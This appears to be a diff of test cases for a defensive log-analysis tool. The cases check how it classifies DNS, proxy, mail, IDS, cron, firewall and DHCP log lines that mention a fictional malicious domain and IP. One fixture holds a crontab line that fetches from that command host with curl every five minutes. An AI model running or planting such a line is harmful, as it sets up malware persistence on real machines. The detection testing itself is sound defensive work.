@@ -42,7 +42,7 @@ $ echo '02-Jul-2020 21:10:00.123 queries: info: client @0x7f1 10.20.3.41#4123 (l
 finding class=compromise event=dns direction=outbound host=10.20.3.41 peer=lantern-moth-update.site outcome=unknown
 
 $ echo '[1593724200] unbound[99:0] info: 10.20.3.41 lantern-moth-update.site. A IN' | ./look unbound.log
-finding class=unjudged direction=none outcome=unknown
+finding class=compromise event=dns direction=outbound host=10.20.3.41 peer=lantern-moth-update.site outcome=unknown
 
 # Proxies and web servers: the host of the URL is contact, the rest of it is not.
 $ echo '1593724200.123     87 10.20.3.41 TCP_MISS/200 1834 GET http://lantern-moth-update.site/gate.php - HIER_DIRECT/103.216.221.19 text/html' | ./look squid.log
@@ -72,6 +72,10 @@ finding class=compromise event=login direction=inbound user=bea peer=103.216.221
 $ echo 'Jul  2 21:10:00 mx postfix/smtpd[311]: connect from unknown[103.216.221.19]' | ./look mail.log
 finding class=attempt event=mail direction=inbound peer=103.216.221.19 outcome=unknown
 
+$ echo 'Jul  2 21:10:00 mx amavis[311]: (311-01) Passed CLEAN {RelayedInbound}, [103.216.221.19]:4123 [103.216.221.19] <billing@lantern-moth-update.site> -> <bea@lab.example>, Queue-ID: 4A1, size: 900' | ./look mailscan.log
+finding class=attempt event=mail direction=inbound peer=103.216.221.19 outcome=delivered
+finding class=attempt event=mail direction=inbound peer=lantern-moth-update.site outcome=delivered
+
 # Events as JSON: Suricata, Zeek, Windows.
 $ echo '{"timestamp":"2020-07-02T21:10:00.000000+0000","event_type":"tls","src_ip":"10.20.3.41","src_port":50123,"dest_ip":"103.216.221.19","dest_port":443,"proto":"TCP","tls":{"sni":"lantern-moth-update.site"}}' | ./look eve.json
 finding class=compromise event=tls direction=outbound host=10.20.3.41 peer=103.216.221.19:443 outcome=unknown
@@ -88,7 +92,7 @@ $ printf '# m h dom mon dow command\n*/5 * * * * curl -s http://lantern-moth-upd
 finding class=compromise direction=none outcome=unknown
 
 $ printf '#!/bin/sh\niptables -A OUTPUT -d 103.216.221.19 -j DROP\n' | ./look block.sh
-finding class=unjudged direction=none outcome=unknown
+finding class=mention direction=none outcome=unknown
 
 $ printf '127.0.0.1 localhost\n0.0.0.0 lantern-moth-update.site\n' | ./look hosts
 finding class=mention direction=none outcome=unknown
@@ -106,7 +110,7 @@ finding class=unjudged direction=none outcome=unknown
 # A lease names the machine behind an address.
 $ printf 'lease 10.20.3.41 {\n  starts 4 2020/07/02 20:00:00;\n  ends 5 2020/07/03 08:00:00;\n  binding state active;\n  hardware ethernet 52:54:00:12:34:56;\n  client-hostname "lab-ws07";\n}\n' >dhcpd.leases; echo 'Jul  2 21:10:00 gw kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.20.3.41 DST=103.216.221.19 LEN=60 PROTO=TCP SPT=40004 DPT=25' >fw.log; tocsin sweep -q -a alert.md --year 2020 fw.log dhcpd.leases | sed -n '/^ACT/,/^NOT/p'
 ACT NOW
- 1 lab-ws07 (10.20.3.41)                                                 weak F1
-   1 connection to 103[.]216[.]221[.]19 port 25, 2 Jul 2020 21:10 (zone assumed
-   UTC), let through
+ 1 lab-ws07 (10.20.3.41)                                                weak  F1
+   1 connection to 103[.]216[.]221[.]19 port 25, 2 Jul 21:10 (no zone stated:
+   taken as UTC); let through.
 NOT VISIBLE
